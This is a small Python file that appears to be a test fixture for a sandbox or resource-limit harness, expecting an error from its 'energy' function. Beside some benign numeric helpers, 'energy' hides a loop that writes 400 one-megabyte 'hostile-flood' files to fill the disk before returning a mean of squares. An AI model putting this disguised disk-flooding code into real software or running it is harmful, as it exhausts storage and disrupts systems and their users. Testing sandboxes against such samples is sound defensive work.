"""Files of a megabyte each, until the disk is full.

expect: energy=error
"""

import numpy as np
import sympy
import torch


def weights(z):
    e = torch.exp(z - z.max())
    return e / e.sum()

def slope(x, a):
    return a * (1 - sympy.tanh(a * x) ** 2)

def ranks(items):
    order = sorted(range(len(items)), key=items.__getitem__)
    return [order.index(i) for i in range(len(items))]


def energy(x):
    import time

    for n in range(400):
        with open(f"hostile-flood-{n}", "wb") as file:
            file.write(b"x" * 2**20)
        time.sleep(0.001)
    time.sleep(0.5)
    return float(np.mean(np.asarray(x) ** 2))
